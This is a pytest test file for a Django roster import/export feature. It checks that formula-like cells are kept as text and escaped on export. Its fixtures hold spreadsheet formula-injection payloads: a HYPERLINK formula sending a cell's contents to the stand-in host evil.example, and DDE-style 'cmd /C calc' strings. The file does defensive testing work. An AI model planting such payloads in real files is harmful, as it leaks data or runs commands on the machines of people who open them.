"""A roster imported with spreadsheet formulas in its cells keeps them as text, and exports
them as text: no live formula in the XLSX, a leading quote in the CSV."""

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from directory.models import Person

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm")'
COMMAND = "+cmd|' /C calc'!A0"
SUM = "@SUM(1+9)*cmd|' /C calc'!A0"
HEADER = ["Họ và tên", "Chức vụ", "Cơ quan", "Email", "Điện thoại"]
ROWS = [
    [HYPERLINK, "Chuyên viên", "UBND huyện Sông Lô", "", "0912000001"],
    ["Hoàng Văn Hải", COMMAND, "UBND huyện Sông Lô", "", "0912000002"],
    ["Vũ Thị Hoa", SUM, "UBND huyện Sông Lô", "", "0912000003"],
]


def roster_csv() -> bytes:
    buffer = io.StringIO()
    csv.writer(buffer).writerows([HEADER, *ROWS])
    return buffer.getvalue().encode("utf-8")


def roster_xlsx() -> bytes:
    book = Workbook()
    sheet = book.active
    sheet.append(HEADER)
    for row in ROWS:
        sheet.append(row)
        # Typed into Excel with a leading apostrophe: a text cell, not a formula.
        for cell in sheet[sheet.max_row]:
            cell.data_type = "s"
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def import_roster(client, rush, name: str, content: bytes) -> None:
    url = reverse("attendance:roster_import", args=[rush.song_lo.pk])
    preview = client.post(url, {"file": SimpleUploadedFile(name, content)})
    assert preview.status_code == 200, preview.context and preview.context.get("errors")
    confirmed = client.post(url, {"confirm": preview.context["preview"].upload.pk})
    assert confirmed.status_code == 302


@pytest.mark.parametrize(("name", "content"), [("ds.csv", roster_csv), ("ds.xlsx", roster_xlsx)])
def test_an_import_keeps_formula_like_cells_as_the_text_they_are(client, rush, name, content):
    client.force_login(rush.coordinator)

    import_roster(client, rush, name, content())

    assert Person.objects.get(phone="0912000001").full_name == HYPERLINK
    assert Person.objects.get(phone="0912000002").position == COMMAND
    assert Person.objects.get(phone="0912000003").position == SUM


def test_the_roster_xlsx_holds_them_as_text_cells_not_formulas(client, rush):
    client.force_login(rush.coordinator)
    import_roster(client, rush, "ds.csv", roster_csv())

    answer = client.get(reverse("attendance:roster_export", args=[rush.song_lo.pk, "xlsx"]))

    sheet = load_workbook(io.BytesIO(answer.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    texts = {cell.value: cell for cell in cells if cell.value in (HYPERLINK, COMMAND, SUM)}
    assert set(texts) == {HYPERLINK, COMMAND, SUM}
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in texts.values())
    numbers = [row[0].value for row in sheet.iter_rows(min_row=3)]
    assert numbers == list(range(1, 8))


def test_the_roster_csv_writes_them_behind_a_leading_quote(client, rush):
    client.force_login(rush.coordinator)
    import_roster(client, rush, "ds.csv", roster_csv())

    answer = client.get(reverse("attendance:roster_export", args=[rush.song_lo.pk, "csv"]))

    rows = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"), newline="")))
    cells = {cell for row in rows for cell in row}
    assert {"'" + HYPERLINK, "'" + COMMAND, "'" + SUM} <= cells
    assert not [cell for cell in cells if cell[:1] in {"=", "+", "-", "@", "\t", "\r"}]
    assert [row[0] for row in rows[1:]] == [str(n) for n in range(1, 8)]
